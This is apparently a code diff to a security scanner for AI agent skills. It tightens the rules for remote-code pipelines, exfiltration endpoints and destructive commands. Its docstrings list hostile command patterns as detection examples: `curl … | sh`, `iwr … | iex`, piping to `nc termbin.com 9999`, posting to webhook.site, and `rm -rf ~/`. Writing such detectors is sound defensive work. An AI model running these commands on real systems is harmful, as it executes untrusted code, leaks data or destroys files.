@@ -73,7 +73,9 @@ def remote_code_pipeline(ctx: SkillContext) -> Iterator[Finding]:
     machine, with the user's rights, and what runs can change after the skill was reviewed.
     Found in scripts and in commands the skill tells the agent to run: `curl … | sh`,
     `wget -O- … | bash`, `iwr … | iex`, `python -c "$(curl …)"`, `bash <(curl …)`,
-    `eval "$(curl …)"`, download-then-execute (`curl -o x.sh …` then `bash x.sh`), and
+    `eval "$(curl …)"`, download-then-execute (`curl -o x.sh …` then `bash x.sh`, `python3
+    - < x.py`; not `python3 - "$REPLY" <<'PY'` or `python3 -c CODE "$REPLY"`, whose program
+    is the text given and the download its data), and
     `exec(urlopen(…).read())` or `eval(await (await fetch(u)).text())` in code. A
     documentation example that the prose presents as an attack is reported as info.
 
@@ -258,7 +260,8 @@ def _co_occurrences(caps: SkillCapabilities, flagged: set[str]) -> list[tuple[F.
     pairs = []
     by_file: dict[str, dict[str, list[F.Fact]]] = {}
     for fact in caps.of_kind(F.CREDENTIAL, F.ENV_DUMP, F.SEND):
-        if fact.documentary or fact.file in flagged or fact.file.lower().endswith(DOC_EXTENSIONS):
+        if fact.documentary or fact.file in flagged or fact.file.lower().endswith(DOC_EXTENSIONS) \
+                or fact.level == F.LITERAL:
             continue
         by_file.setdefault(fact.file, {}).setdefault(fact.kind, []).append(fact)
     for kinds in by_file.values():
@@ -281,7 +284,8 @@ def suspects_findings(ctx: SkillContext,
 
 def _endpoint_facts(caps: SkillCapabilities) -> Iterator[tuple[F.Fact, str, str, bool]]:
     """(fact, kind of endpoint, what matched, data is sent to it) per contacted endpoint."""
-    sends = caps.of_kind(F.SEND, F.EXFIL)
+    # a request of literal text only contacts the host: nothing of the machine is sent
+    sends = [f for f in caps.of_kind(F.SEND, F.EXFIL) if f.level != F.LITERAL]
     # a script's data reaches a host wherever its URL is written; a document's commands are
     # each their own (`… | nc termbin.com 9999` sends, `curl https://termbin.com/x` on the
     # next line fetches)
@@ -344,7 +348,9 @@ def exfiltration_endpoint(ctx: SkillContext) -> Iterator[Finding]:
     `/{token}`, `/xxxx`, the usual way to test a webhook) is a warning. In a document each
     command is its own: fetching from a paste service sends nothing, even where another
     command of the page sends to it.
-    Private and loopback addresses (`127.0.0.1`, `192.168.…`) are not reported.
+    Private and loopback addresses (`127.0.0.1`, `192.168.…`) are not reported. A request
+    whose every word is literal text (`curl -X POST http://198.51.100.7/score -F 'score=300'`
+    in a game write-up) sends nothing read on the machine: a warning, as a GET is.
 
     Fails: `requests.post("https://webhook.site/0000-…", json=report)`.
     Passes: `requests.post("https://api.example.com/v1/reports", json=report)`.
@@ -430,7 +436,10 @@ def destructive_command(ctx: SkillContext) -> Iterator[Finding]:
     overwriting a device (`mkfs`, `wipefs`, `dd of=/dev/…`; the message names the device),
     which is how storage is set up in the operations guides sampled (an LVM volume, a
     server's data disk); temporary folders (`/tmp`, `$TMPDIR`) and paths inside the skill
-    (`rm -rf ./build`) are fine.
+    (`rm -rf ./build`) are fine. A relative path is read from the folder a `cd DIR &&` moved
+    to (`cd /tmp/work && rm -rf *` empties a scratch folder, `cd ~/projects && rm -rf ./*` is
+    a warning); after `cd DIR;`, or a `cd` to a folder the text does not spell out, a bare
+    `*` stays an error.
 
     Fails: `rm -rf ~/` in a cleanup script.
     Passes: `rm -rf ./build` or `rm -rf "$TMPDIR/skill-cache"`.
